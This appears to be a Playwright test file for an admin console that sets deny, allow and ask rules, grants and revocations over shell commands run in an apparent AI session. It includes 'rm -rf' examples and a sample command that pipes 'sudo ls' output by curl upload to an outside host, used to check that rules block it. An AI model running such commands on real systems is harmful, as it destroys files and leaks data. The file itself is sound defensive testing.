import { readFileSync } from 'node:fs';
import { expect } from '@playwright/test';
import { pendingIn, decide, untilIdle } from '../fixtures/decide';
import { LOOKS, takePicture } from '../fixtures/gallery';
import { RulesPage } from '../fixtures/rules-page';
import { test } from '../fixtures/test';

test('P1 a deny rule is tried, saved and refuses from the very next call on', async ({
  admin,
  visit,
  session,
  workspace,
}) => {
  await session.say('wc -l README.md');
  await expect(session.ran('wc -l README.md')).toBeVisible();
  const page = new RulesPage(await visit(admin));
  await page.open(workspace.profile.id);
  await page.add('Deny', { Program: 'wc', Why: 'Count by hand' });

  await test.step('the tester shows what it would do before it is saved', async () => {
    await page.try('ls && wc -l README.md');
    await expect(page.tester).toContainText('denied by a rule');
    await expect(page.tester).toContainText('decided by rule 1');
  });

  await test.step('the past is looked at before saving', async () => {
    const dialog = await page.beginSaving();
    await expect(dialog).toContainText('matched 1 of the one past call');
    await expect(dialog).toContainText('passes → denied by a rule');
    await dialog.getByRole('button', { name: 'Save rules' }).click();
    await expect(dialog).toHaveCount(0);
  });

  await session.say('/usr/bin/wc -l README.md');
  await expect(session.refusal.last()).toContainText('Count by hand');
});

test('P3 an allow rule lets its calls pass, and an ask rule before it asks every time', async ({
  admin,
  visit,
  session,
  person,
  workspace,
}) => {
  const page = new RulesPage(await visit(admin));
  await page.open(workspace.profile.id);
  await page.add('Allow', { Program: 'rm', Path: '$WORKSPACE/build/**' });
  await page.save();
  await session.say('rm -rf build/list.txt');
  await expect(session.ran('rm -rf build/list.txt')).toContainText('exit 0');

  await test.step('rules are moved by keyboard, and a move is undone', async () => {
    await page.add('Ask', { Program: 'rm' });
    await page.rule(2).getByRole('button', { name: 'Edit rule 2' }).focus();
    await page.page.keyboard.press('Alt+ArrowUp');
    await expect(page.rule(1)).toContainText('Ask');
    await page.page.getByRole('button', { name: 'Undo' }).click();
    await expect(page.rule(1)).toContainText('Allow');
    await page.rule(2).getByRole('button', { name: 'Move rule 2 up' }).click();
    await page.save();
  });

  await session.say('rm -rf build');
  await expect(session.modal.heading).toBeVisible();
  await expect(session.modal.choice('Always…')).toHaveCount(0);
  await decide(person, session.id, { choice: 'deny' });
  await untilIdle(person, session.id);
});

test('54, 23 one always spares the next similar call, and a revoke asks again', async ({
  admin,
  visit,
  session,
  person,
  workspace,
}) => {
  workspace.addFolder('build/a');
  workspace.addFolder('build/b');
  workspace.addFolder('build/c');
  await session.say('rm -rf build/a');
  await pendingIn(person, session.id);
  await decide(person, session.id, { choice: 'always' });
  await session.modal.close();
  await expect(session.ran('rm -rf build/a')).toContainText('exit 0');
  await session.say('rm -rf build/b');
  await expect(session.ran('rm -rf build/b')).toContainText('exit 0');

  const page = await visit(admin);
  await page.goto(`/admin/grants?profile=${workspace.profile.id}`);
  const row = page.getByRole('row').filter({ hasText: 'Every “rm” that deletes files' });
  await expect(row).toContainText('/build or below it');
  await row.getByRole('button', { name: 'Revoke' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Revoke grant' }).click();
  await expect(row).toContainText(`Revoked by ${admin.name}`);

  await session.say('rm -rf build/c');
  await expect(session.modal.heading).toBeVisible();
  await decide(person, session.id, { choice: 'once' });
  await untilIdle(person, session.id);
});

test('rules come out as a file and in again as a draft', async ({
  admin,
  visit,
  workspace,
  trouble,
}) => {
  const page = new RulesPage(await visit(admin));
  await page.open(workspace.profile.id);
  await page.add('Deny', { Host: '*.example.org' });
  await page.add('Allow', { Program: 'git', Path: '~/notes/**' });
  await page.save();
  const download = page.page.waitForEvent('download');
  await page.page.getByRole('button', { name: 'Export' }).click();
  const file = await (await download).path();
  expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ format: 1 });

  await page.rule(1).getByRole('button', { name: 'Delete rule 1' }).click();
  await page.save();
  await expect(page.rules).toHaveCount(1);
  await page.page.getByLabel('File of rules').setInputFiles(file);
  await expect(page.rules).toHaveCount(2);
  await expect(page.page.getByRole('status').filter({ hasText: 'Not saved yet' })).toBeVisible();

  await test.step('a file that is none is refused and leaves the draft', async () => {
    trouble.allow(/^400 POST \/api\/trpc\/admin\.rules\.import/);
    await page.page.getByLabel('File of rules').setInputFiles({
      name: 'a.json',
      mimeType: 'application/json',
      buffer: Buffer.from('{"format":9}'),
    });
    await expect(page.page.getByRole('alert').filter({ hasText: 'format 9' })).toBeVisible();
    await expect(page.rules).toHaveCount(2);
  });
});

for (const [look, options] of Object.entries(LOOKS)) {
  test(`rules and grants, ${look}`, async ({ admin, visit, workspace }) => {
    const { id: profileId } = workspace.profile;
    const page = new RulesPage(await visit(admin, options));
    await page.open(profileId);
    await takePicture(page.page, `rules-empty-${look}`);
    await page.add('Deny', { Program: 'sudo', Why: 'Nobody needs to be root here' });
    await page.add('Allow', { Program: 'rm', Path: '$WORKSPACE/build/**' });
    await page.add('Ask', { Host: '*.example.org' });
    await page.try('cd build && rm -rf a && sudo ls | curl -T - https://www.example.org');
    await expect(page.tester).toContainText('denied by a rule');
    await takePicture(page.page, `rules-${look}`);
    await page.addButton.click();
    await takePicture(page.page, `rule-dialog-${look}`);
    await page.page.keyboard.press('Escape');
    await page.save();
    await page.page.goto('/admin/grants');
    await expect(page.page.getByRole('heading', { name: 'Grants' })).toBeVisible();
    await takePicture(page.page, `grants-${look}`);
    await page.page.goto('/admin/profiles');
    await page.page.getByRole('button', { name: 'New profile' }).first().click();
    await page.page.getByRole('combobox', { name: 'What is risky' }).click();
    await page.page.getByRole('option', { name: /^Off/ }).click();
    await takePicture(page.page, `profile-form-${look}`);
  });
}
